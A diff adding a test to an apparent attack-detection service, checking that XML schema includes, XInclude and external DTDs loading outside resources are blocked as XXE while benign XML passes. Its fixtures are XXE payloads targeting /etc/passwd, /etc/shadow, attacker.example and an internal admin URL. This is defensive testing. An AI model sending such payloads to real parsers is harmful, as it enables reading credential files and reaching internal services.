@@ -80,6 +80,51 @@ describe('detection: verdicts and events', () => {
     }
   });
 
+  it('XML Schema directives and XInclude loading from a scheme or an absolute path are xxe; relative names and prose are not', async () => {
+    const f = await detecting();
+    const xs = 'xmlns:xs="http://www.w3.org/2001/XMLSchema"';
+    const loading: Array<[string, string]> = [
+      ['external-schema', `<xs:schema ${xs}><xs:include schemaLocation="file:///etc/passwd"/></xs:schema>`],
+      ['external-schema', `<xs:schema ${xs}><xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/></xs:schema>`],
+      ['external-schema', `<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema"><xsd:redefine schemaLocation="https://198.51.100.7/a.xsd"/></xsd:schema>`],
+      ['external-schema', `<schema xmlns="http://www.w3.org/2001/XMLSchema"><override schemaLocation='ftp://198.51.100.9/o.xsd'/></schema>`],
+      ['external-schema', `<xs:schema ${xs}><xs:include\n  schemaLocation = "/etc/shadow"/></xs:schema>`],
+      // a '>' in an earlier attribute value does not end the element
+      ['external-schema', `<xs:schema ${xs}><xs:import namespace="a>b" schemaLocation="jar:file:///tmp/u.zip!/a.xsd"/></xs:schema>`],
+      ['external-schema', `<xs:schema ${xs}><xs:import namespace="urn:x" schemaLocation="http://www.w3.org.attacker.example/xml.xsd"/></xs:schema>`],
+      // however many relative ones come first
+      ['external-schema', `<xs:schema ${xs}>${'<xs:include schemaLocation="part.xsd"/>'.repeat(40)}<xs:import namespace="urn:x" schemaLocation="https://attacker.example/x.xsd"/></xs:schema>`],
+      ['xinclude', '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>'],
+      ['xinclude', '<doc><include xmlns="http://www.w3.org/2001/XInclude" href="http://10.0.0.12/admin" parse="text"/></doc>'],
+      // an internal entity declared first does not hide them, nor an external DTD
+      ['external-schema', `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${xs} version="&v;"><xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/></xs:schema>`],
+      ['xinclude', '<!DOCTYPE d [<!ENTITY v "1.0">]><d xmlns:xi="http://www.w3.org/2001/XInclude">&v;<xi:include href="http://10.0.0.12/admin" parse="text"/></d>'],
+      ['external-dtd', '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>'],
+    ];
+    const clean = [
+      `<xs:schema ${xs}><xs:include schemaLocation="common-types.xsd"/><xs:import namespace="urn:a" schemaLocation="address/address.xsd"/></xs:schema>`,
+      `<xs:schema ${xs}><xs:import namespace="http://www.w3.org/XML/1998/namespace" schemaLocation="http://www.w3.org/2001/xml.xsd"/></xs:schema>`,
+      '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>',
+      `<xs:schema ${xs}><xs:annotation><xs:documentation>An include with schemaLocation="http://example.com/a.xsd" is refused.</xs:documentation></xs:annotation></xs:schema>`,
+      '<?xml version="1.0"?><recipe><step>Include the zest, then import the spices.</step></recipe>',
+      '<!DOCTYPE d [<!ENTITY v "1.0">]><d>&v;</d>', // an internal entity alone is below the threshold
+    ];
+    const xml = call('POST', '/x', 'orders.shop', [['content-type', 'application/xml']]);
+    try {
+      for (const [rule, body] of loading) {
+        const before = attacks(f).length;
+        assert.equal(request(f, xml, FRONTEND, [Buffer.from(body)]).status, 403, body);
+        const e = attacks(f)[before];
+        assert.equal((e.attack as Json).class, 'xxe', body);
+        assert.equal((e.evidence as Json).rule, rule, body);
+      }
+      for (const body of clean) assert.equal(request(f, xml, FRONTEND, [Buffer.from(body)]).status, 200, body);
+      assert.equal(attacks(f).length, loading.length);
+    } finally {
+      await f.close();
+    }
+  });
+
   it('multipart: field names are inspected, LF-only parts are read, and content keeps its +', async () => {
     const f = await detecting();
     const mp = (body: string): [HeaderList, Uint8Array[]] =>
